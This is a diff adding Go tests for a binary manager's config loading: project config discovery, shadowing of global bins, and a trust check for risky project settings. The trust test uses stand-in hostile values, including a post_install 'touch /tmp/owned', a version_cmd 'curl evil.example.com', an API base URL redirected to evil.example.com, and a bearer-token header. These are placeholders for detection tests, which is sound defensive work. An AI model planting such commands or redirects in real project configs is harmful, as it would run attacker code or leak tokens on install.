@@ -0,0 +1,180 @@
+package config
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestProjectConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv("BIN_CONFIG", "")
+	t.Setenv("BIN_STATE", "")
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Cleanup(func() { cfg, project = config{}, nil })
+
+	global := filepath.Join(home, ".bin", "config.json")
+	if err := os.MkdirAll(filepath.Dir(global), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(global, []byte(`{"default_path": "/usr/local/bin", "bins": {
+		"/usr/local/bin/jq": {"path": "/usr/local/bin/jq", "version": "jq-1.6", "url": "https://github.com/jqlang/jq"},
+		"/usr/local/bin/gh": {"path": "/usr/local/bin/gh", "version": "v2.0.0", "url": "https://github.com/cli/cli"}}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	root := t.TempDir()
+	conf := filepath.Join(root, ProjectDir, "config.json")
+	if err := os.MkdirAll(filepath.Join(root, "src", "pkg"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(conf), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(conf, []byte(`{"bins": {"jq": {"path": "jq", "version": "jq-1.7", "url": "https://github.com/jqlang/jq"}}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// the project is found from any of its directories
+	t.Chdir(filepath.Join(root, "src", "pkg"))
+
+	cfg = config{}
+	if err := CheckAndLoad(); err != nil {
+		t.Fatal(err)
+	}
+	if r, _ := filepath.EvalSymlinks(ProjectRoot()); r != mustEvalSymlinks(t, root) {
+		t.Fatalf("expected the project at %s, got %q", root, ProjectRoot())
+	}
+	binDir := filepath.Join(ProjectRoot(), ProjectDir)
+	if cfg.DefaultPath != binDir {
+		t.Fatalf("expected the binaries of the project in %s, got %s", binDir, cfg.DefaultPath)
+	}
+	if b := cfg.Bins[filepath.Join(binDir, "jq")]; b == nil || b.Version != "jq-1.7" {
+		t.Fatalf("expected jq in the project, got %v", cfg.Bins)
+	}
+
+	// jq of the project shadows the global one
+	g := GlobalBins()
+	if len(g) != 1 || g["/usr/local/bin/gh"] == nil {
+		t.Fatalf("expected only gh from the global config, got %v", g)
+	}
+
+	if err := UpsertBinary(&Binary{Path: filepath.Join(binDir, "kind"), Version: "v0.20.0", URL: "https://github.com/kubernetes-sigs/kind"}); err != nil {
+		t.Fatal(err)
+	}
+	var written config
+	b, err := os.ReadFile(conf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(b, &written); err != nil {
+		t.Fatal(err)
+	}
+	if written.DefaultPath != "" || written.Bins["kind"] == nil || written.Bins["kind"].Path != "kind" {
+		t.Fatalf("expected the project config to keep relative paths, got\n%s", b)
+	}
+	var untouched config
+	if b, err := os.ReadFile(global); err != nil || json.Unmarshal(b, &untouched) != nil || len(untouched.Bins) != 2 {
+		t.Fatalf("expected the global config to be left alone, got %v\n%s", err, b)
+	}
+
+	// an explicit config is used even in a project
+	explicit := filepath.Join(t.TempDir(), "config.json")
+	SetPath(explicit)
+	t.Cleanup(func() { SetPath("") })
+	if p, err := getConfigPath(); err != nil || p != explicit {
+		t.Fatalf("expected %s, got %s (%v)", explicit, p, err)
+	}
+}
+
+func mustEvalSymlinks(t *testing.T, p string) string {
+	t.Helper()
+	r, err := filepath.EvalSymlinks(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+func TestProjectTrust(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv("BIN_CONFIG", "")
+	t.Setenv("BIN_STATE", "")
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Cleanup(func() { cfg, project = config{}, nil })
+
+	global := filepath.Join(home, ".bin", "config.json")
+	if err := os.MkdirAll(filepath.Dir(global), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(global, []byte(`{"default_path": "/usr/local/bin"}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	root := t.TempDir()
+	conf := filepath.Join(root, ProjectDir, "config.json")
+	if err := os.MkdirAll(filepath.Dir(conf), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	write := func(s string) {
+		t.Helper()
+		if err := os.WriteFile(conf, []byte(s), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := CheckAndLoad(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Chdir(root)
+
+	// nothing to trust without commands nor credentials
+	write(`{"bins": {"jq": {"path": "jq", "version": "jq-1.7", "url": "https://github.com/jqlang/jq", "headers": {"Accept": "application/json"}}}}`)
+	if s := UntrustedSettings(); len(s) != 0 {
+		t.Fatalf("expected nothing to trust, got %v", s)
+	}
+
+	write(`{"handlers": {"corp://": {"latest": "echo 1.0.0", "download": "true"}}, "settings": {"GHES_BASE_URL": "https://evil.example.com/api/v3/"},
+		"bins": {"jq": {"path": "jq", "version": "jq-1.7", "url": "https://github.com/jqlang/jq", "build_from_source": true,
+		"post_install": ["touch /tmp/owned"], "headers": {"Authorization": "Bearer ${TOKEN}"}}}}`)
+	expected := []string{"build_from_source of jq", "handlers", "headers of jq", "post_install of jq", "settings"}
+	if s := UntrustedSettings(); !reflect.DeepEqual(s, expected) {
+		t.Fatalf("expected %v to need trust, got %v", expected, s)
+	}
+	if _, err := Trust(); err != nil {
+		t.Fatal(err)
+	}
+	if err := CheckAndLoad(); err != nil {
+		t.Fatal(err)
+	}
+	if s := UntrustedSettings(); len(s) != 0 {
+		t.Fatalf("expected the project to be trusted, got %v", s)
+	}
+
+	// the writes of bin keep it trusted, the others don't
+	if err := UpsertBinary(&Binary{Path: filepath.Join(root, ProjectDir, "kind"), Version: "v0.20.0", URL: "https://github.com/kubernetes-sigs/kind"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := CheckAndLoad(); err != nil {
+		t.Fatal(err)
+	}
+	if s := UntrustedSettings(); len(s) != 0 {
+		t.Fatalf("expected the project to stay trusted, got %v", s)
+	}
+	write(`{"bins": {"jq": {"path": "jq", "version": "jq-1.7", "url": "https://github.com/jqlang/jq", "version_cmd": "curl evil.example.com"}}}`)
+	if s := UntrustedSettings(); !reflect.DeepEqual(s, []string{"version_cmd of jq"}) {
+		t.Fatalf("expected the changed project not to be trusted, got %v", s)
+	}
+
+	t.Chdir(t.TempDir())
+	if err := CheckAndLoad(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Trust(); err == nil {
+		t.Fatal("expected the trust to fail outside of a project")
+	}
+}